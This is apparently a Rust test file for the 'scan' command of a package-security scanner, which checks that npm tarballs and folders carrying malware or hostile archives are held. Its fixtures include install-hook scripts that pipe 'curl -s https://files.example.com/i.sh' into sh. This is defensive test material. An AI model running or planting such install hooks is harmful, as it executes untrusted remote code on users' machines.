//! `scan`: archives and folders of this machine, without network, cache or configuration.

use crate::lab::{Lab, Run, dropper};
use bifocal_core::{ArchiveLimits, Sha256};
use bifocal_testkit::NpmPackage;
use bifocal_testkit::hostile::{friendly_archives, hostile_archives};
use serde_json::Value;
use std::io::Write as _;
use std::process::Stdio;

fn lines(run: &Run) -> Vec<Value> {
    run.stdout.lines().map(|line| serde_json::from_str(line).unwrap_or_else(|error| panic!("{error}: {line}"))).collect()
}

/// A folder with a plain tarball, one that is held, and a folder that is held.
fn lab() -> Lab {
    let lab = Lab::new();
    lab.write("plain.tgz", NpmPackage::new("plain", "1.0.0").build().artifact().bytes());
    lab.write("bad one.tgz", dropper("bad", "1.0.0").build().artifact().bytes());
    lab.write(
        "folder/package.json",
        r#"{"name":"x","version":"1.0.0","scripts":{"preinstall":"curl -s https://files.example.com/i.sh | sh"}}"#,
    );
    lab
}

#[test]
fn each_path_is_a_line_in_input_order_with_every_field() {
    let lab = lab();
    let run = lab.run(&["scan", "--format", "jsonl", "plain.tgz", "bad one.tgz", "nowhere.tgz", "folder"]).expect(1);
    let found = lines(&run);
    let paths: Vec<&str> = found.iter().map(|line| line["path"].as_str().unwrap()).collect();
    assert_eq!(paths, ["plain.tgz", "bad one.tgz", "nowhere.tgz", "folder"]);
    for line in &found {
        let mut fields: Vec<&str> = line.as_object().unwrap().keys().map(String::as_str).collect();
        fields.sort_unstable();
        assert_eq!(fields, ["error", "millis", "path", "schema_version", "score", "sha256", "signals", "verdict"]);
        assert_eq!(line["schema_version"], 1);
    }
    let plain = Sha256::of(&std::fs::read(lab.project().join("plain.tgz")).unwrap());
    assert_eq!(found[0]["sha256"], plain.to_string());
    let verdicts: Vec<Option<&str>> = found.iter().map(|line| line["verdict"].as_str()).collect();
    assert_eq!(verdicts, [Some("allow"), Some("hold"), None, Some("hold")]);
    assert!(found[2]["error"].as_str().unwrap().contains("cannot read it"), "{}", found[2]);
    assert!(found[0]["error"].is_null() && found[2]["sha256"].is_null() && found[3]["sha256"].is_null());
    let signal = &found[1]["signals"][0];
    assert_eq!(
        (signal["evidence"][0]["path"].as_str(), signal["kind"].as_str()),
        (Some("package/package.json"), Some("malware")),
        "{signal}"
    );
    assert!(lab.upstream.log().is_empty());
}

#[test]
fn exit_codes_are_those_of_check() {
    let lab = lab();
    lab.run(&["scan", "plain.tgz"]).expect(0).says(&["1 clean"]);
    lab.run(&["scan", "plain.tgz", "nowhere.tgz"]).expect(3).says(&["ERROR nowhere.tgz", "1 not read, 1 clean"]);
    lab.run(&["scan", "nowhere.tgz", "folder"]).expect(1).says(&[
        "HOLD",
        "folder",
        "package.json:1:",
        "curl -s https://files.example.com/i.sh",
        "1 held, 1 not read",
    ]);
    lab.run(&["scan", "--fail-on", "deny", "folder"]).expect(0);
    lab.run(&["scan", "--fail-on", "deny", "folder", "nowhere.tgz"]).expect(3);
    lab.run(&["scan", "--format", "cyclonedx", "plain.tgz"])
        .expect(2)
        .complains(&["cyclonedx", "[possible values: human, json, jsonl, sarif]"]);
    lab.run(&["scan", "--files-from", "nowhere.txt"]).expect(2).complains(&["cannot read the list of paths nowhere.txt"]);
}

#[test]
fn paths_come_from_a_file_or_from_standard_input() {
    let lab = lab();
    lab.write("list.txt", "plain.tgz\n\nbad one.tgz\n");
    let found = lines(&lab.run(&["scan", "--format", "jsonl", "--files-from", "list.txt", "folder"]).expect(1));
    assert_eq!(found.iter().map(|line| line["path"].as_str().unwrap()).collect::<Vec<_>>(), ["folder", "plain.tgz", "bad one.tgz"]);
    let mut command = lab.command(&["scan", "--format", "jsonl", "--jobs", "1", "--files-from", "-"]);
    let mut child = command.stdin(Stdio::piped()).stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().unwrap();
    child.stdin.take().unwrap().write_all(b"plain.tgz\n").unwrap();
    let found = lines(&Run::from(child.wait_with_output().unwrap()).expect(0));
    assert_eq!(found.len(), 1);
}

#[test]
fn nothing_is_needed_but_the_file() {
    let lab = lab();
    let mut command = std::process::Command::new(env!("CARGO_BIN_EXE_bifocal"));
    command.env_clear().args(["scan", "bad one.tgz"]).current_dir(lab.project());
    Run::of(command).expect(1).says(&["1 held"]);
    assert!(!lab.cache().exists(), "scan keeps no cache");
}

#[test]
fn an_archive_and_its_folder_get_the_same_findings() {
    let lab = Lab::new();
    let built = dropper("bad", "1.0.0").file("index.js", "module.exports = 1;\n").build();
    lab.write("bad.tgz", built.artifact().bytes());
    let unpacked = lab.run(&["scan", "--format", "json", "bad.tgz"]).expect(1);
    let unpacked: Value = serde_json::from_str(&unpacked.stdout).unwrap();
    lab.write(
        "package/package.json",
        r#"{"name":"bad","version":"1.0.0","main":"index.js","scripts":{"postinstall":"curl -s https://files.example.com/i.sh | sh"}}"#,
    );
    let folder: Value = serde_json::from_str(&lab.run(&["scan", "--format", "json", "package"]).expect(1).stdout).unwrap();
    let ids = |report: &Value| {
        report["paths"][0]["signals"].as_array().unwrap().iter().map(|signal| signal["id"].to_string()).collect::<Vec<_>>()
    };
    assert_eq!(ids(&unpacked), ids(&folder));
}

#[test]
fn every_hostile_archive_is_held_as_refused_and_nothing_is_written() {
    let lab = Lab::new();
    // Bombs under smaller limits fit under ours.
    let attacks: Vec<_> =
        hostile_archives().into_iter().filter(|attack| !attack.only_when_strict && attack.limits == ArchiveLimits::default()).collect();
    assert!(attacks.len() >= 60, "{} attacks", attacks.len());
    let mut list = String::new();
    for attack in &attacks {
        // A text or an empty file is looked at by itself, unless its name claims that it is more.
        let end = if matches!(attack.name, "no-archive" | "nothing") { ".tgz" } else { "" };
        lab.write(&format!("attacks/{}{end}", attack.name), &attack.bytes);
        list.push_str(&format!("attacks/{}{end}\n", attack.name));
    }
    lab.write("list.txt", list);
    let run = lab.run(&["scan", "--format", "jsonl", "--files-from", "list.txt"]).expect(1);
    let found = lines(&run);
    assert_eq!(found.len(), attacks.len());
    for (line, attack) in found.iter().zip(&attacks) {
        let failed = line["signals"].as_array().unwrap().iter().any(|signal| signal["status"] == "failed");
        assert!(failed && line["verdict"] == "hold", "{} is not refused: {line}", attack.name);
    }
    let mut left: Vec<String> =
        std::fs::read_dir(lab.project()).unwrap().map(|entry| entry.unwrap().file_name().into_string().unwrap()).collect();
    left.sort();
    assert_eq!(left, ["attacks", "list.txt"]);
    assert_eq!(std::fs::read_dir(lab.project().join("attacks")).unwrap().count(), attacks.len());
}

#[test]
fn every_friendly_archive_is_clean() {
    let lab = Lab::new();
    let mut arguments = vec!["scan".to_owned(), "--format".to_owned(), "jsonl".to_owned()];
    for archive in friendly_archives() {
        lab.write(archive.name, &archive.bytes);
        arguments.push(archive.name.to_owned());
    }
    for line in lines(&lab.run(&arguments).expect(0)) {
        assert_eq!((line["verdict"].as_str(), line["signals"].as_array().unwrap().len()), (Some("allow"), 0), "{line}");
    }
}

#[test]
fn neither_links_nor_special_files_are_followed() {
    let lab = Lab::new();
    lab.write("folder/index.js", "module.exports = 1;\n");
    std::os::unix::fs::symlink("/etc", lab.project().join("folder/etc")).unwrap();
    std::os::unix::fs::symlink("index.js", lab.project().join("folder/self.js")).unwrap();
    lab.run(&["scan", "folder"]).expect(0);
    lab.run(&["scan", "/dev/null", "/dev/zero"]).expect(3).says(&["neither a file nor a folder", "2 not read"]);
}
